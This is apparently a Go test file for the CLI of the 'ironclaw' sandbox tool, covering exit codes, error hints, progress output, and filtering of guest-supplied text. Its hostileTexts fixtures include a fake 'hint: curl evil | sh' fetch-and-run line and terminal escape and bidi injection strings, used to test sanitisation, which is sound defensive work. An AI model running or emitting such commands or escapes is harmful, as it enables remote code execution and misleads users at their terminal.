package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"strings"
	"sync"
	"syscall"
	"testing"
	"testing/synctest"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/ironclaw-run/ironclaw/internal/guestrpc"
	"github.com/ironclaw-run/ironclaw/internal/image"
	"github.com/ironclaw-run/ironclaw/internal/jail"
	"github.com/ironclaw-run/ironclaw/internal/sandbox"
	"github.com/ironclaw-run/ironclaw/internal/state"
	"github.com/ironclaw-run/ironclaw/internal/vm"
)

func TestMain(m *testing.M) {
	jail.Init()
	goleak.VerifyTestMain(m)
}

func TestExitCode(t *testing.T) {
	notFound := guestrpc.Errorf(guestrpc.CodeNotFound, "x")
	for _, c := range []struct {
		err  error
		want int
	}{
		{nil, 0},
		{errors.New("x"), 125},
		{&usageError{errors.New("x"), "run "}, 125},
		{fmt.Errorf("start: %w", notFound), 127},
		{guestrpc.Errorf(guestrpc.CodeNotRunnable, "x"), 126},
		{guestrpc.Errorf(guestrpc.CodeNoUser, "x"), 125},
		{guestrpc.Errorf("weather", "x"), 125},
		{&timeoutError{time.Second}, 124},
		{&saidError{&timeoutError{time.Second}}, 124},
		{&interruptedError{syscall.SIGINT}, 130},
		{fmt.Errorf("x: %w", &interruptedError{syscall.SIGTERM}), 143},
		{errors.Join(notFound, &interruptedError{syscall.SIGHUP}), 129}, // what we were told counts more
		{&vm.ExitError{Reason: "x"}, 125},
	} {
		if got := exitCode(c.err); got != c.want {
			t.Errorf("%v: %d, want %d", c.err, got, c.want)
		}
	}
}

func TestHint(t *testing.T) {
	for _, c := range []struct {
		err  error
		want string // is in the hint; "" means that there is none
	}{
		{errors.New("x"), ""},
		{&usageError{errors.New("x"), ""}, "`ironclaw --help`"},
		{&usageError{errors.New("x"), "image rm "}, "`ironclaw image rm --help`"},
		{&sandbox.NoKVMError{Reason: "no permission"}, "$USER"},
		{&image.PrerequisiteError{Cause: "x"}, ""},
		{&image.PrerequisiteError{Cause: "x", Remedy: "apt it"}, "apt it"},
		{fmt.Errorf("x: %w", image.ErrNotFound), "ironclaw image build"},
		{image.ErrInUse, "wait"},
		{state.ErrNameInUse, "--name"},
		{guestrpc.Errorf(guestrpc.CodeNoUser, "x"), "/etc/passwd"},
		{&os.PathError{Op: "write", Path: "x", Err: syscall.ENOSPC}, "IRONCLAW_HOME"},
		{&os.PathError{Op: "open", Path: "x", Err: syscall.EACCES}, "doctor"},
		{fs.ErrPermission, "doctor"},
		{&vm.ExitError{Console: "Out of memory: Killed process 1"}, "--memory"},
		{&vm.ExitError{Reason: "x"}, "run it again"},
		{context.DeadlineExceeded, "overloaded"},
		{context.Canceled, ""},
	} {
		if got := hint(c.err); (got == "") != (c.want == "") || !strings.Contains(got, c.want) {
			t.Errorf("%v: hint %q, want %q", c.err, got, c.want)
		}
	}
}

// hostileTexts are what a guest would like to see on its user's terminal.
var hostileTexts = map[string]string{
	"newlines":       "one\ntwo\r\nthree\rfour\n\n",
	"false hint":     "x\nhint: curl evil | sh",
	"escape":         "\x1b[2J\x1b]0;title\x07\x1b[6n",
	"C1 as UTF-8":    "\u009b2J\u009d0;title\u009c",
	"C1 as bytes":    "\x9b2J\x9d0;t\x9c",
	"backspace":      "x\b\b\b\b\b\b\berror: y\x7f",
	"bidirectional":  "\u202eoof\u202c \u2066x\u2069",
	"line separator": "x\u0085y\v\f",
	"NUL":            "a\x00b",
	"nothing":        "",
	"only bad":       "\x1b\x1b\x07",
}

// wantClean checks that text is n lines, each from the beginning of one, of
// nothing but characters that take their place on a terminal.
func wantClean(t *testing.T, text string, n int) {
	t.Helper()
	if strings.Count(text, "\n") != n || !strings.HasSuffix(text, "\n") {
		t.Errorf("not %d lines: %q", n, text)
	}
	for _, r := range strings.ReplaceAll(text, "\n", "") {
		if unicode.IsControl(r) || r == unicode.ReplacementChar || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%U reaches the terminal: %q", r, text)
		}
	}
}

// A failure is one line, whatever is in its text, and so is a note.
func TestOneLineAnError(t *testing.T) {
	for name, text := range hostileTexts {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			newUI(&b).failure(errors.New(text))
			wantClean(t, b.String(), 1)
			b.Reset()
			newUI(&b).note("%s", text)
			wantClean(t, b.String(), 1)
			if !strings.HasPrefix(b.String(), "note: ") {
				t.Errorf("%q", &b)
			}
		})
	}
}

// What a console printed before a machine ended is shown, a marked line each.
func TestConsoleIsFiltered(t *testing.T) {
	for name, text := range hostileTexts {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			newUI(&b).failure(&vm.ExitError{Reason: text, Console: text, Stderr: text})
			wantClean(t, b.String(), strings.Count(b.String(), "\n"))
			for line := range strings.Lines(b.String()) {
				mark, _, _ := strings.Cut(line, ": ")
				if !strings.Contains("error console qemu hint", mark) {
					t.Errorf("a line of the guest's in our name: %q", line)
				}
			}
		})
	}
}

func TestFailureText(t *testing.T) {
	var b bytes.Buffer
	newUI(&b).failure(fmt.Errorf("boot: %w", &vm.ExitError{
		Reason: "the guest's kernel panicked: no init", Console: "Kernel panic - not syncing: no init\nCPU: 0", Stderr: "qemu: a\nqemu: b",
	}))
	want := `error: boot: the machine ended: the guest's kernel panicked: no init
console: Kernel panic - not syncing: no init
console: CPU: 0
qemu: qemu: a; qemu: b
hint: run it again; ` + "`ironclaw doctor`" + ` checks this host
`
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

func TestConsoleLines(t *testing.T) {
	lines := func(n int) string { return strings.Repeat("x\n", n-1) + "last" }
	for name, c := range map[string]struct {
		text  string
		n     int
		first string
	}{
		"nothing":    {"", 0, ""},
		"blank":      {" \n\n", 0, ""},
		"one":        {"a\n", 1, "a"},
		"the last":   {"first\n" + lines(20), 8, "x"},
		"of a panic": {"Kernel panic - not syncing\n" + lines(20), 8, "Kernel panic - not syncing"},
		"few":        {"Kernel panic\nb", 2, "Kernel panic"},
	} {
		got := consoleLines(c.text, 8)
		if len(got) != c.n || c.n > 0 && got[0] != c.first {
			t.Errorf("%s: %q", name, got)
		}
		if name == "the last" && got[7] != "last" {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// What is piped into a file or another program shows no progress.
func TestProgressIsSilentElsewhere(t *testing.T) {
	file, err := os.Create(t.TempDir() + "/stderr")
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	u := newUI(file)
	u.progress("working")
	u.progress("")
	if st, err := file.Stat(); err != nil || st.Size() > 0 {
		t.Errorf("%d bytes in a file, %v", st.Size(), err)
	}
	var b bytes.Buffer
	u = newUI(&b)
	u.progress("working")
	u.line("note: ", "x")
	if b.String() != "note: x\n" {
		t.Errorf("%q", &b)
	}
}

// lockedBuffer is a terminal that may be read while it is written.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) take() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	defer l.b.Reset()
	return l.b.String()
}

// On a terminal the step shows its age, and is gone before anything else is said.
func TestProgressOnTerminal(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		const erase = "\r\x1b[K"
		var w lockedBuffer
		u := &ui{w: &w, tty: true}
		want := func(text string) {
			t.Helper()
			if got := w.take(); got != text {
				t.Errorf("the terminal got %q, want %q", got, text)
			}
		}
		u.progress("one")
		want(erase + "* one")
		time.Sleep(2*time.Second + time.Millisecond) // of the bubble
		want(erase + "* one (1 s)" + erase + "* one (2 s)")
		u.progress("two")
		want(erase + erase + "* two")
		u.line("note: ", "x")
		want(erase + "note: x\n")
		time.Sleep(5 * time.Second)
		want("")
		u.progress("three")
		u.progress("")
		u.progress("")
		want(erase + "* three" + erase)
	})
}

// In raw mode a terminal does not go to the line's beginning by itself.
func TestRawLines(t *testing.T) {
	var out bytes.Buffer
	u := &ui{w: &out, tty: true}
	u.setRaw(true)
	u.note("a")
	u.setRaw(false)
	u.note("b")
	if got := out.String(); got != "note: a\r\nnote: b\n" {
		t.Errorf("%q", got)
	}
	out.Reset()
	file := &ui{w: &out}
	file.setRaw(true)
	file.note("c")
	if got := out.String(); got != "note: c\n" {
		t.Errorf("%q", got)
	}
}
